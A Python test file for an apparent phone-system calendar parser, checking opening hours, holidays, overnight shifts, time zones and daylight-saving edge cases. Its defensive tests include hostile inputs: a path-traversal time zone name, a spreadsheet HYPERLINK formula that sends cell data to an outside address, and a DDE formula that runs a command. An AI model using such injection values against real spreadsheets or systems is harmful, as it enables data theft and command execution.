"""Opening hours by the clock on the wall."""

import time
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest

from ivr.calendar import Calendar, is_open, parse_calendar
from ivr.reading import Reader

TAIPEI, NEW_YORK = ZoneInfo("Asia/Taipei"), ZoneInfo("America/New_York")
OFFICE: dict[str, object] = {
    "weekly": {day: ["09:00-12:30", "13:30-18:00"] for day in ("mon", "tue", "wed", "thu", "fri")},
    "holidays": ["2025-10-10"],
    "exceptions": {"2025-10-11": ["10:00-12:00"], "2025-10-13": []},
}


def read(source: dict[str, object], zone: ZoneInfo = TAIPEI) -> Calendar:
    mistakes: list[str] = []
    calendar = parse_calendar(Reader(source, "c", mistakes), zone)
    assert mistakes == []
    return calendar


def at(text: str, zone: ZoneInfo = TAIPEI, fold: int = 0) -> float:
    return datetime.fromisoformat(text).replace(tzinfo=zone, fold=fold).timestamp()


@pytest.mark.parametrize(
    ("when", "expected"),
    [
        ("2025-10-09 08:59:59", False),
        ("2025-10-09 09:00", True),
        ("2025-10-09 12:29:59", True),
        ("2025-10-09 12:30", False),  # the end is not open
        ("2025-10-10 10:00", False),  # a holiday
        ("2025-10-11 10:30", True),  # a Saturday, open by exception
        ("2025-10-12 10:30", False),  # a Sunday
        ("2025-10-13 10:30", False),  # a Monday, closed by exception
        ("2025-10-14 17:59:59", True),
    ],
)
def test_an_office_is_open_in_its_hours(when: str, expected: bool) -> None:
    assert is_open(read(OFFICE), at(when)) is expected


def test_closed_now_closes_whatever_the_hours_say() -> None:
    assert is_open(read({"daily": ["00:00-24:00"]}), at("2025-10-09 03:00"))
    assert not is_open(read({"daily": ["00:00-24:00"], "closed_now": True}), at("2025-10-09 03:00"))


def test_hours_past_midnight_belong_to_the_day_they_began_on() -> None:
    night = read({"weekly": {"fri": ["22:00-06:00"]}, "holidays": ["2025-10-11"]})
    assert is_open(night, at("2025-10-10 23:00"))
    assert is_open(night, at("2025-10-11 05:59"))  # Saturday is a holiday, but the shift is Friday's
    assert not is_open(night, at("2025-10-11 06:00"))
    assert not is_open(night, at("2025-10-11 22:30"))


def test_hours_are_those_of_the_calendars_own_zone() -> None:
    calendar = read({"time_zone": "America/New_York", "daily": ["09:00-17:00"]})
    assert is_open(calendar, at("2025-10-09 09:00", NEW_YORK))
    assert not is_open(calendar, at("2025-10-09 09:00", TAIPEI))


def test_the_hour_that_comes_twice_is_open_twice() -> None:
    calendar = read({"daily": ["01:00-02:00"]}, NEW_YORK)
    first, second = (at("2025-11-02 01:30", NEW_YORK, fold) for fold in (0, 1))
    assert second - first == 3600
    assert is_open(calendar, first)
    assert is_open(calendar, second)


def test_the_hour_that_does_not_exist_is_skipped() -> None:
    calendar = read({"daily": ["02:00-03:00"]}, NEW_YORK)
    gap = at("2025-03-09 01:59:59", NEW_YORK)
    assert not any(is_open(calendar, gap + second) for second in range(0, 7200, 60))
    before_and_after = read({"daily": ["01:00-04:00"]}, NEW_YORK)
    assert sum(is_open(before_and_after, gap - 3599 + 60 * minute) for minute in range(240)) == 120


def test_a_calendars_mistakes_come_all_at_once() -> None:
    mistakes: list[str] = []
    source = {
        "time_zone": "Asia/Taipeh",
        "daily": ["9-5", "25:00-26:00", "09:61-10:00", "10:00-10:00"],
        "weekly": {"monday": ["09:00-10:00"]},
        "holidays": ["10/10"],
        "exceptions": {"2025-02-30": []},
        "closed_now": "yes",
        "holliday": [],
    }
    parse_calendar(Reader(source, "c", mistakes), TAIPEI)
    paths = [mistake.split(": ")[0] for mistake in mistakes]
    assert paths == [
        "c.time_zone",
        *["c.daily"] * 4,
        "c.weekly.monday",
        "c.holidays",
        "c.exceptions.2025-02-30",
        "c.closed_now",
        "c",  # it never opens
        "c.holliday",
    ]


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/localtime", "Asia", "\x00", "x" * 5_000])
def test_a_hostile_time_zone_is_a_mistake(name: str) -> None:
    mistakes: list[str] = []
    parse_calendar(Reader({"time_zone": name, "daily": ["09:00-10:00"]}, "c", mistakes), TAIPEI)
    assert len(mistakes) == 1
    assert mistakes[0].startswith("c.time_zone: no such time zone ")


POISON = [
    '=HYPERLINK("http://198.51.100.7/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "46305",  # a day as a spreadsheet counts it
    "2026-10-10\x00",
    "２０２６-１０-１０",
    "2026‑10‑10",  # hyphens that do not break
    "2026-10-10 ",
    "10.10.2026",
    "2026-02-29",
    "9" * 100_000,
    "\u202e01-01-6202",
    "",
]


@pytest.mark.parametrize("written", POISON, ids=lambda written: ascii(written)[:20])
def test_a_poisoned_spreadsheet_of_holidays_is_refused_in_its_own_words(written: str) -> None:
    for key, source in (("holidays", {"holidays": [written]}), ("exceptions", {"exceptions": {written: []}})):
        mistakes: list[str] = []
        parse_calendar(Reader({"daily": ["09:00-17:00"], **source}, "c", mistakes), TAIPEI)
        assert [each.partition(": ")[0].partition(".")[2].partition(".")[0] for each in mistakes] == [key], mistakes
        assert len(mistakes[0]) < 300


def test_a_calendar_of_100_000_holidays_is_read_and_asked_in_a_moment() -> None:
    first = date(2025, 10, 10).toordinal()
    days = [date.fromordinal(first + n).isoformat() for n in range(100_000)]
    began = time.monotonic()
    calendar = read({"daily": ["09:00-17:00"], "holidays": days})
    assert is_open(calendar, at("2025-10-09 10:00"))
    assert not is_open(calendar, at("2025-10-10 10:00"))
    assert time.monotonic() - began < 10.0
